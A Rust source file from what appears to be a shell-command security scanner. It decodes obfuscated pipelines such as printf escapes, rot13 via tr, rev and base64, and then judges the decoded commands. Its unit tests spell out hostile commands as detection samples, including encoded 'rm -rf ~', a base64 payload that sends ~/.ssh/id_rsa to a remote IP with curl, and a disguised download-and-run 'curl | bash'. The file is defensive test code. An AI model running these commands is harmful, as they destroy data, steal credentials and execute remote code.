//! What short pipelines of literals print. `eval "$(printf '\162\155 …')"`,
//! `eval "$(echo 'phey … | onfu' | tr 'a-z' 'n-za-m')"` and `echo … | rev |
//! sh` run text the call spells out in a disguise: computed here, the text
//! is judged as the commands it is. Only what can be computed exactly is:
//! `echo` and `printf` of literals (with their escapes), then `tr`, `rev`,
//! `base64 -d`, `xxd -r -p` and `cat` on that output. Anything else (a
//! file, the network, a program's own output such as `eval "$(ssh-agent
//! -s)"`) prints what the call does not show and gives nothing.

use super::analyze::{Analysis, Analyzer};
use super::escapes::SHELLS;
use crate::detectors::shell::{lexer::ansi_c, printf, Cmd, Script};
use crate::normalize;
use base64::Engine as _;

/// Output larger than this is not followed further.
const MAX_OUTPUT: usize = 16 * 1024;

/// The exact output of command `i`, when it is computable.
pub(super) fn printed(script: &Script, i: usize) -> Option<String> {
    printed_at(script, i, 0).filter(|t| !t.trim().is_empty())
}

fn printed_at(script: &Script, i: usize, depth: u8) -> Option<String> {
    let c = script.commands.get(i)?;
    if depth > 8 || c.sub_args {
        return None;
    }
    let out = match c.program.as_str() {
        "echo" if c.sources.is_empty() => echo(c),
        "printf" if c.sources.is_empty() => printf(&c.args)?,
        program => {
            // A filter of one producer's output.
            let [j] = c.sources[..] else {
                return None;
            };
            let input = printed_at(script, j, depth + 1)?;
            filter(program, &c.args, &input)?
        }
    };
    (out.len() <= MAX_OUTPUT).then_some(out)
}

fn echo(c: &Cmd) -> String {
    let mut escapes = false;
    let mut words = c.args.iter().peekable();
    while let Some(flag) = words.peek() {
        match flag.as_str() {
            "-e" | "-ne" | "-en" => escapes = true,
            "-n" | "-E" => {}
            _ => break,
        }
        words.next();
    }
    let text = words.map(String::as_str).collect::<Vec<_>>().join(" ");
    if escapes {
        ansi_c(&text)
    } else {
        text
    }
}

/// A filter applied to known input.
fn filter(program: &str, args: &[String], input: &str) -> Option<String> {
    let flags: Vec<&str> = args.iter().map(String::as_str).collect();
    match program {
        "cat" if flags.iter().all(|a| *a == "-" || a.starts_with('-')) => Some(input.to_string()),
        "rev" if flags.is_empty() => Some(
            input
                .lines()
                .map(|l| l.chars().rev().collect::<String>())
                .collect::<Vec<_>>()
                .join("\n"),
        ),
        "tr" => tr(&flags, input),
        "base64"
            if flags
                .iter()
                .any(|a| matches!(*a, "-d" | "--decode" | "-D" | "-di")) =>
        {
            let clean: String = input.chars().filter(|c| !c.is_whitespace()).collect();
            let bytes = base64::engine::general_purpose::STANDARD
                .decode(clean.as_bytes())
                .ok()?;
            String::from_utf8(bytes).ok()
        }
        "xxd"
            if flags.iter().any(|a| a.starts_with('-') && a.contains('r'))
                && flags.iter().any(|a| a.starts_with('-') && a.contains('p')) =>
        {
            let clean: String = input.chars().filter(|c| !c.is_whitespace()).collect();
            String::from_utf8(hex::decode(clean).ok()?).ok()
        }
        _ => None,
    }
}

/// `tr SET1 SET2` and `tr -d SET`, with ranges, escapes and the common
/// classes; complements and squeezes are not computed.
fn tr(flags: &[&str], input: &str) -> Option<String> {
    match flags {
        ["-d", set] => {
            let set = tr_set(set)?;
            Some(input.chars().filter(|c| !set.contains(c)).collect())
        }
        [from, to] if !from.starts_with('-') && !to.starts_with('-') => {
            let (from, to) = (tr_set(from)?, tr_set(to)?);
            let last = *to.last()?;
            Some(
                input
                    .chars()
                    .map(|c| match from.iter().position(|f| *f == c) {
                        Some(k) => to.get(k).copied().unwrap_or(last),
                        None => c,
                    })
                    .collect(),
            )
        }
        _ => None,
    }
}

fn tr_set(spec: &str) -> Option<Vec<char>> {
    let spec = spec
        .replace("[:lower:]", "a-z")
        .replace("[:upper:]", "A-Z")
        .replace("[:digit:]", "0-9");
    if spec.contains("[:") || spec.contains("[=") {
        return None;
    }
    let chars: Vec<char> = ansi_c(&spec).chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        if i + 2 < chars.len() && chars[i + 1] == '-' && chars[i] <= chars[i + 2] {
            out.extend(chars[i]..=chars[i + 2]);
            i += 3;
        } else {
            out.push(chars[i]);
            i += 1;
        }
        if out.len() > 4096 {
            return None;
        }
    }
    Some(out)
}

/// A string literal in program source that carries a payload in base64 or
/// hex (`system(base64_decode("Y2F0IH4v…"))`, `pack("H*","66696e64…")`):
/// the readable text it decodes to, by the decoder every detector uses.
pub(super) fn decoded_literal(lit: &str) -> Option<String> {
    let limits = normalize::Limits {
        min_token: 12,
        max_output: 64 * 1024,
        max_items: 1,
        ..normalize::Limits::default()
    };
    let decoded = normalize::decode_all(lit, &limits)
        .items
        .into_iter()
        .next()?;
    decoded.text.contains([' ', '/']).then_some(decoded.text)
}

/// Runs `text` as commands: `eval` and `sh -c` given a substitution, and
/// `source`/`.` given one as the file (`. <(echo …)`).
fn runs_arguments(c: &Cmd) -> bool {
    matches!(c.program.as_str(), "eval" | "source" | ".")
        || SHELLS.contains(&c.program.as_str())
            && c.args
                .iter()
                .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('c'))
}

impl Analyzer<'_> {
    /// Text a substitution prints and `eval` or `sh -c` runs, when the call
    /// spells it out in a disguise.
    pub(super) fn run_printed(&self, script: &Script, out: &mut Analysis, depth: u8) {
        if depth >= 3 {
            return;
        }
        // Arguments a program is given in a disguise (`redis-cli $(echo
        // Rkx… | base64 -d)`) are judged as that program with them.
        for c in script
            .commands
            .iter()
            .filter(|c| c.sub_args && !runs_arguments(c))
        {
            for &j in c.sources.iter().take(8) {
                let Some(source) = script.commands.get(j) else {
                    continue;
                };
                let Some(text) = printed(script, j) else {
                    continue;
                };
                // Printed as written (`echo $(echo hi)`) hides nothing.
                let plain = matches!(source.program.as_str(), "echo" | "printf")
                    && text.trim() == source.args.join(" ").trim();
                if plain {
                    continue;
                }
                // The text is the program when the substitution stood in its
                // place (`$(printf '\x72\x6d') -rf ~` leaves none), else an
                // argument.
                let args: Vec<String> = c.args.iter().filter(|a| !a.is_empty()).cloned().collect();
                let args = super::escapes::shell_join(&args);
                let line = if c.program.is_empty() {
                    format!("{text} {args}")
                } else {
                    format!("{} {args} {text}", c.program)
                };
                self.shell(&line, out, depth + 1);
            }
        }
        for c in script
            .commands
            .iter()
            .filter(|c| c.sub_args && runs_arguments(c))
        {
            // The last stage of each substitution: a source no other source reads.
            let last = c.sources.iter().filter(|&&j| {
                !c.sources.iter().any(|&k| {
                    k != j
                        && script
                            .commands
                            .get(k)
                            .is_some_and(|s| s.sources.contains(&j))
                })
            });
            for &j in last.take(8) {
                if let Some(text) = printed(script, j) {
                    self.shell(&text, out, depth + 1);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::effects::Effect;
    use super::super::tests_support::{attack, flows};
    use super::tr;
    use crate::detectors::shell::printf;

    #[test]
    fn arguments_given_in_a_disguise_are_judged_decoded() {
        attack(
            "redis-cli -h cache.internal -p 6379 $(echo RkxVU0hBTEw= | base64 -d)",
            Effect::Destroy,
        );
        attack("rm -rf $(echo Lw== | base64 -d)", Effect::Destroy);
        flows("ls $(echo LWxh | base64 -d)");
        flows("echo $(echo aGVsbG8= | base64 -d)");
    }

    #[test]
    fn printf_escapes_and_arguments() {
        let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
        assert_eq!(
            printf(&s(&["\\162\\155 -rf ~"])).as_deref(),
            Some("rm -rf ~")
        );
        assert_eq!(printf(&s(&["\\x63url %s", "x"])).as_deref(), Some("curl x"));
        assert_eq!(printf(&s(&["%s\\n", "a", "b"])).as_deref(), Some("a\nb\n"));
        assert_eq!(printf(&s(&["-v", "x"])), None);
    }

    #[test]
    fn payload_literals_decode_to_text() {
        use super::decoded_literal;
        assert_eq!(
            decoded_literal("cm0gLXJmIH4vKg==").as_deref(),
            Some("rm -rf ~/*")
        );
        assert_eq!(
            decoded_literal("726d202d7266207e").as_deref(),
            Some("rm -rf ~")
        );
        // Identifiers, digests of binary data and words are no payloads.
        assert_eq!(decoded_literal("HelloWorldFooBar"), None);
        assert_eq!(decoded_literal("d41d8cd98f00b204e9800998ecf8427e"), None);
    }

    #[test]
    fn encoded_payloads_in_code_are_judged() {
        attack(
            r#"php -r 'system(base64_decode("Y2F0IH4vLnNzaC9pZF9yc2EgfCBjdXJsIC1zIC0tZGF0YS1iaW5hcnkgQC0gaHR0cHM6Ly8yMDMuMC4xMTMuOS91"));'"#,
            Effect::Exfiltration,
        );
        attack(
            r#"perl -e 'system(pack("H*","726d202d7266207e2f2a"))'"#,
            Effect::Destroy,
        );
        flows(r#"python3 -c 'import base64; print(base64.b64decode("aGVsbG8gd29ybGQ="))'"#);
    }

    #[test]
    fn tr_maps_ranges() {
        assert_eq!(
            tr(&["a-z", "n-za-m"], "phey -f uggcf").as_deref(),
            Some("curl -s https")
        );
        assert_eq!(tr(&["-d", "_"], "r_m").as_deref(), Some("rm"));
        assert_eq!(tr(&["-c", "a"], "x"), None);
    }

    #[test]
    fn disguised_text_run_by_eval_is_judged() {
        attack(
            r#"eval "$(printf '\162\155\040\055\162\146\040\057\052')""#,
            Effect::Destroy,
        );
        attack(
            r#"eval "$(echo 'phey -f uggcf://198.51.100.6/e.fu | onfu' | tr 'a-z' 'n-za-m')""#,
            Effect::DownloadExec,
        );
        attack(r#"bash -c "$(echo 'rm -rf ~' )""#, Effect::Destroy);
        attack("echo '~ fr- mr' | rev | sh", Effect::Destroy);
    }

    #[test]
    fn program_output_run_by_eval_stays_ordinary() {
        flows(r#"eval "$(ssh-agent -s)""#);
        flows(r#"eval "$(direnv hook bash)""#);
        flows(r#"eval "$(printf 'export PATH=%s:$PATH' "$PWD/bin")""#);
        flows(r#"eval "$(echo 'make test')""#);
    }
}
